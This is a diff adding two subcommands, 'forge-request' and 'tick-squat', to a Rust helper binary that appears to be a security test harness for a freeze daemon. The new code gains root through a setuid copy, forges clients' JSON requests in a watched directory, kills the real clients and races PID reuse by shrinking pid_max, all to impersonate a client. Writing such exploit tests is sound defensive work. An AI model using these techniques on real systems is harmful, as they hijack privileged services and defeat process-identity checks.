@@ -1109,6 +1109,253 @@ fn main() {
             let _ = std::fs::write(&out, format!("miss target {target} forks {forks} last {}", last.trim()));
             std::process::exit(4);
         }
+        // Root for good through a setuid copy, escaped under the init, then: a child S kept
+        // (FILE gets "S START"), and every freeze request a client writes in STATE/requests
+        // rewritten in place (root owns that directory) to name S by pid and start time as the
+        // client, before the init reads it. `forge-request STATE FILE`
+        "forge-request" => {
+            let state = std::env::args().nth(2).expect("forge-request STATE FILE");
+            let out = std::env::args().nth(3).expect("forge-request STATE FILE");
+            if raw_setresuid(0, 0, 0) != 0 {
+                fail("setresuid: forge-request needs a setuid-root copy");
+            }
+            match fork() {
+                0 => {}
+                p if p < 0 => fail("fork"),
+                _ => forever(),
+            }
+            let mid = std::process::id() as i32;
+            match fork() {
+                0 => {}
+                p if p < 0 => fail("fork"),
+                _ => unsafe { libc::_exit(0) },
+            }
+            while unsafe { libc::getppid() } == mid {
+                std::thread::sleep(Duration::from_millis(1));
+            }
+            let s = match fork() {
+                0 => forever(),
+                p if p < 0 => fail("fork"),
+                p => p,
+            };
+            let stat = std::fs::read_to_string(format!("/proc/{s}/stat")).unwrap_or_default();
+            let start: u64 = stat
+                .rsplit_once(") ")
+                .and_then(|(_, r)| r.split(' ').nth(19))
+                .and_then(|t| t.parse().ok())
+                .unwrap_or_else(|| fail("start time of S"));
+            let _ = std::fs::write(&out, format!("{s} {start} waiting\n"));
+            let dir = format!("{state}/requests");
+            let fd = unsafe { libc::inotify_init1(libc::IN_CLOEXEC) };
+            if fd < 0 {
+                fail("inotify_init1");
+            }
+            let dc = path_c(&dir);
+            let mask = libc::IN_CREATE | libc::IN_MODIFY | libc::IN_MOVED_TO | libc::IN_CLOSE_WRITE;
+            if unsafe { libc::inotify_add_watch(fd, dc.as_ptr(), mask) } < 0 {
+                fail("inotify_add_watch");
+            }
+            ready();
+            let until = std::time::Instant::now() + Duration::from_secs(60);
+            let mut buf = vec![0u8; 64 * 1024];
+            let mut done: Vec<String> = Vec::new();
+            while std::time::Instant::now() < until {
+                let mut pfd = libc::pollfd { fd, events: libc::POLLIN, revents: 0 };
+                if unsafe { libc::poll(&mut pfd, 1, 200) } <= 0 {
+                    continue;
+                }
+                let n = unsafe { libc::read(fd, buf.as_mut_ptr().cast(), buf.len()) };
+                if n <= 0 {
+                    continue;
+                }
+                let mut off = 0usize;
+                while off + 16 <= n as usize {
+                    let ev = unsafe { &*(buf.as_ptr().add(off) as *const libc::inotify_event) };
+                    let len = ev.len as usize;
+                    let raw = &buf[off + 16..off + 16 + len];
+                    off += 16 + len;
+                    let name: String =
+                        String::from_utf8_lossy(raw.split(|&b| b == 0).next().unwrap_or(&[])).into();
+                    if name.starts_with(".taken.") || ev.mask & libc::IN_CREATE != 0 {
+                        continue;
+                    }
+                    let path = format!("{dir}/{name}");
+                    let Ok(body) = std::fs::read(&path) else { continue };
+                    let Ok(mut v) = serde_json::from_slice::<serde_json::Value>(&body) else { continue };
+                    let id = v["request_id"].as_str().unwrap_or("").to_string();
+                    if v.get("launch").is_some() || id.is_empty() || done.contains(&id) {
+                        continue;
+                    }
+                    let client = format!("{} {}", v["pid"], v["start_time"]);
+                    let v_client_pid = v["pid"].as_i64().map(|p| p as i32);
+                    v["pid"] = serde_json::json!(s);
+                    v["start_time"] = serde_json::json!(start);
+                    let mut forged = serde_json::to_vec(&v).unwrap();
+                    // "control" (argument 4): everything the same, the request left as written.
+                    if std::env::args().nth(4).as_deref() == Some("control") {
+                        forged = body.clone();
+                    }
+                    while forged.len() < body.len() {
+                        forged.push(b' ');
+                    }
+                    let f = std::fs::OpenOptions::new().write(true).open(&path);
+                    let wrote = f.and_then(|f| {
+                        use std::os::unix::fs::FileExt;
+                        f.write_all_at(&forged, 0)
+                    });
+                    if wrote.is_ok() {
+                        done.push(id.clone());
+                        // "kill" (argument 4): the real client is then not the init's own, and
+                        // may be refused itself (its parent is the outside): once the init took
+                        // the request, it is killed (root may).
+                        if std::env::args().nth(4).as_deref() == Some("kill") {
+                            let end = std::time::Instant::now() + Duration::from_secs(5);
+                            // Taken: the request was seen under its name, and is no longer.
+                            let at = format!("{dir}/{id}");
+                            let mut seen = false;
+                            while std::time::Instant::now() < end {
+                                let here = std::path::Path::new(&at).exists();
+                                if seen && !here {
+                                    break;
+                                }
+                                seen |= here;
+                                std::thread::sleep(Duration::from_micros(100));
+                            }
+                            if let Some(c) = v_client_pid {
+                                unsafe { libc::kill(c, libc::SIGKILL) };
+                            }
+                        }
+                        let _ = std::fs::write(&out, format!("{s} {start} forged {id} client {client}\n"));
+                        // Gone before the proof looks: S, under the init now, is all that stays.
+                        unsafe { libc::_exit(0) };
+                    }
+                }
+            }
+            let _ = std::fs::write(&out, format!("{s} {start} no request seen\n"));
+            unsafe { libc::kill(s, libc::SIGKILL) };
+            std::process::exit(4);
+        }
+        // Root for good through a setuid copy, escaped under the init; shrinks the namespace's
+        // pid_max to a few pids past the reserved ones (root's file: no CAP_SYS_ADMIN needed),
+        // then kills the freeze client as soon as its request is in place and forks until a
+        // child gets its pid, within the client's start tick if it can. FILE gets
+        // "PID START CLIENT_START forks". `tick-squat STATE FILE [PID_MAX]`
+        "tick-squat" => {
+            let state = std::env::args().nth(2).expect("tick-squat STATE FILE");
+            let out = std::env::args().nth(3).expect("tick-squat STATE FILE");
+            let pid_max: i32 = std::env::args().nth(4).and_then(|s| s.parse().ok()).unwrap_or(310);
+            if raw_setresuid(0, 0, 0) != 0 {
+                fail("setresuid: tick-squat needs a setuid-root copy");
+            }
+            match fork() {
+                0 => {}
+                p if p < 0 => fail("fork"),
+                _ => forever(),
+            }
+            let mid = std::process::id() as i32;
+            match fork() {
+                0 => {}
+                p if p < 0 => fail("fork"),
+                _ => unsafe { libc::_exit(0) },
+            }
+            while unsafe { libc::getppid() } == mid {
+                std::thread::sleep(Duration::from_millis(1));
+            }
+            let last = || -> i32 {
+                std::fs::read_to_string("/proc/sys/kernel/ns_last_pid")
+                    .ok()
+                    .and_then(|t| t.trim().parse().ok())
+                    .unwrap_or(0)
+            };
+            while last() < 300 {
+                match fork() {
+                    0 => unsafe { libc::_exit(0) },
+                    p if p > 0 => unsafe {
+                        libc::waitpid(p, std::ptr::null_mut(), 0);
+                    },
+                    _ => fail("fork"),
+                }
+            }
+            if let Err(e) = std::fs::write("/proc/sys/kernel/pid_max", pid_max.to_string()) {
+                let _ = std::fs::write(&out, format!("0 0 0 pid_max not written: {e}\n"));
+                std::process::exit(5);
+            }
+            let start_of = |pid: i32| -> Option<u64> {
+                let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
+                stat.rsplit_once(") ").and_then(|(_, r)| r.split(' ').nth(19)).and_then(|t| t.parse().ok())
+            };
+            let dir = format!("{state}/requests");
+            let fd = unsafe { libc::inotify_init1(libc::IN_CLOEXEC) };
+            let dc = path_c(&dir);
+            if fd < 0 || unsafe { libc::inotify_add_watch(fd, dc.as_ptr(), libc::IN_MOVED_TO) } < 0 {
+                fail("inotify");
+            }
+            ready();
+            let until = std::time::Instant::now() + Duration::from_secs(60);
+            let mut buf = vec![0u8; 64 * 1024];
+            while std::time::Instant::now() < until {
+                let mut pfd = libc::pollfd { fd, events: libc::POLLIN, revents: 0 };
+                if unsafe { libc::poll(&mut pfd, 1, 200) } <= 0 {
+                    continue;
+                }
+                let n = unsafe { libc::read(fd, buf.as_mut_ptr().cast(), buf.len()) };
+                let mut off = 0usize;
+                while n > 0 && off + 16 <= n as usize {
+                    let ev = unsafe { &*(buf.as_ptr().add(off) as *const libc::inotify_event) };
+                    let len = ev.len as usize;
+                    let raw = &buf[off + 16..off + 16 + len];
+                    off += 16 + len;
+                    let name: String =
+                        String::from_utf8_lossy(raw.split(|&b| b == 0).next().unwrap_or(&[])).into();
+                    if name.starts_with('.') {
+                        continue;
+                    }
+                    let Ok(body) = std::fs::read(format!("{dir}/{name}")) else { continue };
+                    let Ok(v) = serde_json::from_slice::<serde_json::Value>(&body) else { continue };
+                    if v.get("launch").is_some() {
+                        continue;
+                    }
+                    let (Some(c), Some(t)) = (v["pid"].as_i64(), v["start_time"].as_u64()) else { continue };
+                    let c = c as i32;
+                    unsafe { libc::kill(c, libc::SIGKILL) };
+                    let end = std::time::Instant::now() + Duration::from_secs(2);
+                    while std::path::Path::new(&format!("/proc/{c}")).exists()
+                        && std::time::Instant::now() < end
+                    {
+                        std::hint::spin_loop();
+                    }
+                    let mut forks = 0;
+                    while std::time::Instant::now() < end {
+                        match fork() {
+                            0 => {
+                                if unsafe { libc::getpid() } == c {
+                                    let me = start_of(c).unwrap_or(0);
+                                    let _ = std::fs::write(&out, format!("{c} {me} {t} {forks}\n"));
+                                    forever();
+                                }
+                                unsafe { libc::_exit(0) };
+                            }
+                            p if p == c => {
+                                // The request untaken yet (the client died before it signalled):
+                                // signal for it.
+                                if std::path::Path::new(&format!("{dir}/{name}")).exists() {
+                                    unsafe { libc::kill(1, libc::SIGUSR1) };
+                                }
+                                unsafe { libc::_exit(0) }
+                            }
+                            p if p > 0 => {
+                                forks += 1;
+                                unsafe { libc::waitpid(p, std::ptr::null_mut(), 0) };
+                            }
+                            _ => {}
+                        }
+                    }
+                    let _ = std::fs::write(&out, format!("0 0 {t} miss {c} forks {forks}\n"));
+                    std::process::exit(4);
+                }
+            }
+            std::process::exit(4);
+        }
         "hopper" => {
             let path = std::env::args().nth(2).expect("hopper FILE");
             let nap = arg(3, 200) as u32;
